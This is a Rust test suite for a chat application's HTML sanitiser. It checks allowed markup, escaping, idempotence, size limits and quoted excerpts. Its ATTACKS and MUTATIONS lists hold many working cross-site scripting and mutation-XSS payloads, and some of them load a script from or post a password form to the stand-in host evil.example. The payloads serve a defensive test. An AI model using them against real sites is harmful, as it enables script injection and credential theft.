use proptest::prelude::*;
use uuid::Uuid;

use super::*;
use crate::store::Time;

#[test]
fn allowed_markup_is_preserved() {
    for text in [
        "plain",
        "a &lt; b &amp;&amp; c",
        "<b>bold</b> <i>italic</i><br>",
        "<ul><li>one</li><li>two</li></ul>",
        "<code>fn main() {}</code>",
        "<p>ä € 😀\u{200b}</p>",
    ] {
        assert_eq!(clean(text), text);
    }
    let rel = r#"rel="noopener noreferrer nofollow""#;
    for target in ["https://example.org/a?b=c#d", "http://a", "mailto:a@b.c"] {
        assert_eq!(
            clean(&format!("<a href='{target}'>x</a>")),
            format!(r#"<a href="{target}" {rel}>x</a>"#)
        );
    }
}

#[test]
fn special_characters_in_plain_text_are_escaped() {
    for (text, html) in [
        ("a < b", "a &lt; b"),
        ("a & b", "a &amp; b"),
        ("1 > 0", "1 &gt; 0"),
        ("&lt;script&gt;", "&lt;script&gt;"),
        ("<3", "&lt;3"),
    ] {
        assert_eq!(clean(text), html);
    }
}

/// Inputs that executed unwanted code in a page with some sanitiser or browser.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>x",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onclick=alert(1)//>x</b>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<span style='position:fixed;inset:0'>x</span>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/local\">x</a>",
    "<a href=\"https://u:p@evil.example\">x</a>",
    "<a href=\"mailto:a@b?subject=<img src=x onerror=alert(1)>\">x</a>",
    "<a href='https://a/\"onmouseover=alert(1)'>x</a>",
    "<a href=https://a target=_blank onclick=alert(1)>x</a>",
    "<a name=x id=y class=z href=https://a>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<style>@import 'https://evil.example';</style>x",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "<script\u{200b}>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<b",
    "<a href=\"https://a",
    "</b></p></html>",
];

/// Inputs whose meaning changes when a page parses the output of a sanitiser.
const MUTATIONS: &[&str] = &[
    "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></p></foreignObject></svg>",
    "<svg><title><style><a id=\"</style><img src=1 onerror=alert(1)>\"></a></style></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<table><a href=https://a><svg><style></table><img src=x onerror=alert(1)></style>",
    "<select><style><option><img src=x onerror=alert(1)></style></select>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<pre>\n\n<b>x</b></pre>",
    "<p><ul><li><p>x</ul></p>",
    "<b><p><i></b></p></i>",
    "<a href=https://a><a href=https://b>x</a></a>",
];

#[test]
fn markup_outside_the_list_is_removed() {
    for attack in ATTACKS.iter().chain(MUTATIONS) {
        let html = clean(attack);
        assert!(is_harmless(&html), "{attack}\n{html}");
        assert!(is_harmless(&clean(&html)), "{attack}\n{html}");
    }
}

#[test]
fn sanitizing_stored_html_again_changes_nothing() {
    let rules = Rules::new(config::Content::Html).unwrap();
    for text in ATTACKS.iter().chain(MUTATIONS) {
        if let Ok(stored) = rules.admit((*text).into(), 10_000) {
            assert_eq!(clean(&stored), stored, "{text}");
            assert!(WRITTEN.fits(&stored), "{text}\n{stored}");
        }
    }
}

#[test]
fn html_stored_under_other_rules_is_sanitized_when_sent() {
    let rules = Rules::new(config::Content::Html).unwrap();
    for text in ATTACKS.iter().chain(MUTATIONS) {
        let stored = Arc::new(message(text));
        let shown = rules.show(&stored);
        assert!(is_harmless(&shown.content), "{text}\n{}", shown.content);
        let twice = rules.show(&shown);
        assert!(is_harmless(&twice.content), "{text}\n{}", twice.content);
    }
}

#[test]
fn sanitized_html_is_sent_without_a_copy() {
    let rules = Rules::new(config::Content::Html).unwrap();
    let sent = "<b onclick=x>bold</b> & <a href='https://a/?b&c'>link</a><br>";
    let stored = Arc::new(message(&rules.admit(sent.into(), 1000).unwrap()));
    assert!(Arc::ptr_eq(&rules.show(&stored), &stored));
}

#[test]
fn nested_attacks_produce_no_markup() {
    for outer in ATTACKS.iter().chain(MUTATIONS) {
        for inner in MUTATIONS {
            for text in [
                format!("{outer}{inner}"),
                format!("<b>{inner}{outer}</b>"),
                outer.replace("alert(1)", inner),
            ] {
                let html = clean(&text);
                assert!(is_harmless(&html), "{text}\n{html}");
            }
        }
    }
}

proptest! {
    #[test]
    fn fragments_in_any_order_produce_no_forbidden_markup(
        pieces in prop::collection::vec(prop::sample::select(PIECES), 1..40)
    ) {
        let html = clean(&pieces.concat());
        prop_assert!(is_harmless(&html), "{}\n{}", pieces.concat(), html);
        // The result must also be harmless after a page parses it and serializes it again.
        let again = clean(&html);
        prop_assert!(is_harmless(&again), "{}\n{}", html, again);
    }

    /// A text that is sent unsanitised must be one from which the sanitiser would remove no
    /// element, attribute or text.
    #[test]
    fn unchanged_html_is_harmless(
        pieces in prop::collection::vec(prop::sample::select(WRITTEN_PIECES), 1..12)
    ) {
        let text = pieces.concat();
        if WRITTEN.fits(&text) {
            prop_assert!(is_harmless(&text), "{}", text);
            let html = clean(&text);
            for tag in text.split('<').skip(1).filter_map(|tag| tag.split_once('>')) {
                prop_assert!(html.contains(&format!("<{}>", tag.0)), "{}\n{}", text, html);
            }
            let words = |html: &str| -> String {
                let texts = html.split('<').map(|part| part.split_once('>').unwrap_or(("", part)).1);
                texts.collect()
            };
            prop_assert_eq!(words(&text), words(&html), "{}\n{}", text, html);
        }
    }
}

const WRITTEN_PIECES: &[&str] = &[
    "<b>x</b>",
    "<b>",
    "</b>",
    "<p>",
    "</p>",
    "<ul><li>",
    "</li></ul>",
    "<br>",
    "<a href=\"https://a/?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\">",
    "<a rel=\"noopener noreferrer nofollow\">",
    "</a>",
    "&lt;",
    "&amp;",
    "&amp;lt;",
    "x ",
];

const PIECES: &[&str] = &[
    "<b>",
    "</b>",
    "<p>",
    "</p>",
    "<a href=https://a>",
    "<a href=javascript:x>",
    "</a>",
    "<svg>",
    "</svg>",
    "<math>",
    "</math>",
    "<mtext>",
    "<mglyph>",
    "<style>",
    "</style>",
    "<script>",
    "</script>",
    "<table>",
    "</table>",
    "<tr>",
    "<td>",
    "<select>",
    "</select>",
    "<noscript>",
    "</noscript>",
    "<template>",
    "</template>",
    "<title>",
    "</title>",
    "<textarea>",
    "</textarea>",
    "<form>",
    "</form>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<img src=x onerror=x>",
    "<p title=\"",
    "\">",
    "'",
    "&lt;",
    "&#60;",
    "&amp;",
    "x",
    "\n",
];

#[test]
fn text_whose_html_grows_beyond_the_limit_is_refused() {
    let rules = Rules::new(config::Content::Html).unwrap();
    let many = "<b a=1>".repeat(MAX_TAGS + 1);
    assert!(rules.admit(many, 10_000).is_err());
    // The maximum number of open elements and blocks: each block repeats all elements.
    let open: String = (0..MAX_TAGS / 2).map(|n| format!("<b a={n}>")).collect();
    let blocks = "<p>x".repeat(MAX_TAGS / 2 - 1);
    let text = format!("<p>{open}{blocks}");
    assert!(clean(&text).len() > 100_000, "{}", clean(&text).len());
    assert!(rules.admit(text, 10_000).is_err());
    assert!(
        rules.admit("&".repeat(2001), 10_000).is_err(),
        "10,005 characters"
    );
    assert!(rules.admit("&".repeat(2000), 10_000).is_ok());
}

#[test]
fn text_of_only_scripts_is_refused() {
    let rules = Rules::new(config::Content::Html).unwrap();
    for text in [
        "<script>x</script>",
        "<style>x</style>",
        "<!-- x -->",
        "<img>",
    ] {
        assert!(rules.admit(text.into(), 100).is_err(), "{text}");
    }
    let text = Rules::new(config::Content::Text).unwrap();
    let admitted = text.admit("<script>x</script>".into(), 100).unwrap();
    assert_eq!(admitted, "<script>x</script>", "text is nothing but text");
}

#[test]
fn stored_text_is_escaped_if_it_cannot_become_html() {
    let html = clean(&"<".repeat(MAX_TAGS + 1));
    assert_eq!(html, "&lt;".repeat(MAX_TAGS + 1));
}

fn message(content: &str) -> Message {
    Message {
        id: Uuid::nil(),
        conversation_id: Uuid::nil(),
        seq: 1,
        user_id: "ann".into(),
        user_name: "Ann".into(),
        content: content.into(),
        streaming: false,
        interrupted: false,
        interrupted_reason: None,
        kind: crate::store::MessageKind::User,
        metadata: serde_json::value::RawValue::from_string("{}".into()).unwrap(),
        reply_to: None,
        mentions: Vec::new(),
        reactions: Vec::new(),
        answers: None,
        version: 1,
        created_at: Time::now(),
        edited_at: None,
        deleted_at: None,
    }
}

fn clean(text: &str) -> String {
    Html::new().clean(text).into_owned()
}

/// Parses HTML as a page does, limited to what the sanitiser writes: listed tags and link
/// attributes. Returns whether it contains nothing else.
fn is_harmless(html: &str) -> bool {
    html.split('<').skip(1).all(|tag| {
        let Some((tag, _)) = tag.split_once('>') else {
            return false;
        };
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        let name = name.strip_prefix('/').unwrap_or(name);
        let is_known = TAGS.contains(&name);
        let is_plain = attributes.is_empty();
        let rest = attributes.strip_suffix(r#"rel="noopener noreferrer nofollow""#);
        let href = rest.and_then(|rest| match rest {
            "" => Some(true),
            rest => rest
                .strip_prefix(r#"href=""#)
                .and_then(|rest| rest.strip_suffix(r#"" "#))
                .map(|target| is_link(&target.replace("&amp;", "&"))),
        });
        is_known && (is_plain || (name == "a" && href == Some(true)))
    })
}

#[test]
fn quotes_are_shown_as_text_even_if_truncated() {
    let rules = Rules::new(config::Content::Html).unwrap();
    for (excerpt, shown) in [
        ("<b>hello</b> you", "hello you"),
        ("<b>hel", "hel"),
        ("see <a href=\"https://exam", "see "),
        ("1 &lt; 2 &am", "1 &lt; 2 "),
        ("a & b", "a &amp; b"),
        ("<script>alert(1)</script>x", "x"),
        ("<img src=x onerror=alert(1)>", ""),
    ] {
        let quote = Quote {
            id: Uuid::from_u128(9),
            seq: 1,
            user_id: "ann".into(),
            user_name: "Ann".into(),
            excerpt: excerpt.into(),
            edited_at: None,
            deleted_at: None,
        };
        let reply = Arc::new(Message {
            reply_to: Some(quote.clone()),
            ..message("fine")
        });
        let reference = rules.show(&reply).reply_to.clone().unwrap();
        assert_eq!(reference.excerpt, shown, "{excerpt}");
        let pin = Pin {
            message: quote.clone(),
            pinned_by: "ann".into(),
            pinned_at: Time::now(),
        };
        assert_eq!(rules.show_pin(pin).message.excerpt, shown, "{excerpt}");
        let text = Rules::new(config::Content::Text).unwrap();
        assert_eq!(text.show(&reply).reply_to, Some(quote), "{excerpt}");
    }
}
